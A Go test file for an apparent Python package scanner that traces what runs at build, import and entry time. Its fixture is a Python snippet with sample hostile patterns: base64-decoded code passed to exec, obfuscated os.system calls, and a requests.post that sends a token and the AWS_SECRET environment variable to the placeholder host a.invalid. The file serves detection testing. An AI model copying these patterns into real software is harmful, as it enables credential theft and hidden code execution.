package flow

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"pipwarden/scan/vocabulary"
)

// execute runs files, "== path" before each, as an artifact: setup.py is built,
// pkg is imported, x.pth is started.
func execute(t testing.TB, text string) *Trace {
	t.Helper()
	data := make(map[string]string)
	var order []string
	name := ""
	for line := range strings.Lines(text) {
		if rest, ok := strings.CutPrefix(line, "== "); ok {
			name = strings.TrimSpace(rest)
			order = append(order, name)
			continue
		}
		if name == "" {
			name = "pkg/__init__.py"
			order = append(order, name)
		}
		data[name] += line
	}
	p := New(Config{Data: func(path string) ([]byte, bool) {
		s, ok := data[path]
		return []byte(s), ok
	}})
	var entries []EntryPoint
	for _, path := range order {
		s := Source{Path: path, Text: []byte(data[path]), Dead: strings.HasPrefix(path, "tests/")}
		base := strings.TrimSuffix(path, ".py")
		if base == path {
			continue
		}
		s.Module = strings.ReplaceAll(base, "/", ".")
		if m, ok := strings.CutSuffix(s.Module, ".__init__"); ok {
			s.Module, s.Package = m, true
		}
		if path == "setup.py" {
			s.Module = ""
			entries = append(entries, EntryPoint{Stage: Build, Path: path})
		}
		p.Add(s)
	}
	if code := data["x.pth"]; code != "" {
		entries = append(entries, EntryPoint{Stage: Start, Path: "x.pth", Code: code, Line: 1})
	}
	if data["pkg/__init__.py"] != "" {
		entries = append(entries, EntryPoint{Stage: Import, Module: "pkg"})
	}
	if data["pkg/cli.py"] != "" {
		entries = append(entries, EntryPoint{Stage: Entry, Module: "pkg.cli", Object: "main"})
	}
	trace, err := p.Run(context.Background(), entries)
	if err != nil {
		t.Fatal(err)
	}
	return trace
}

var stageNames = [...]string{"build", "start", "import", "entry", "call", "dead"}

// told writes an event as the tests expect it.
func told(e *Event) string {
	var out strings.Builder
	fmt.Fprintf(&out, "%s %s", stageNames[e.Stage], e.Name)
	var args []string
	for _, a := range e.Args {
		args = append(args, render(a))
	}
	for _, k := range e.Keywords {
		args = append(args, k.Name+"="+render(k.Value))
	}
	fmt.Fprintf(&out, "(%s)", strings.Join(args, ", "))
	if e.Labels != 0 {
		fmt.Fprintf(&out, " <%s>", e.Labels)
	}
	if len(e.Layers) > 0 {
		fmt.Fprintf(&out, " in %s", strings.Join(e.Layers, "/"))
	}
	if e.Guarded {
		out.WriteString(" guarded")
	}
	return out.String()
}

func TestPrint(t *testing.T) {
	trace := execute(t, `
import os, base64 as b
from base64 import b64decode as d
code = d("b3Muc3lzdGVtKCd0cnVlJyk=")
exec(code)
def f(token, x):
    import requests
    requests.post("https://a.invalid/", data={"t": token, "e": os.environ["AWS_SECRET"]})
class C:
    def run(self):
        os.system("true " + self.x)
x = getattr(__import__("o" + "s"), "system")
x("true")
f(dict(os.environ), 1)
if __name__ == "__main__":
    os.system("main")
`)
	for i := range trace.Events {
		t.Log(told(&trace.Events[i]), "   ", trace.Events[i].Code)
	}
	t.Logf("%+v", trace.Layers)
	t.Logf("%+v", trace.Mentions)
	t.Logf("%+v", trace.Imports)
	t.Logf("%+v", trace.Files)
	_ = vocabulary.Default
}
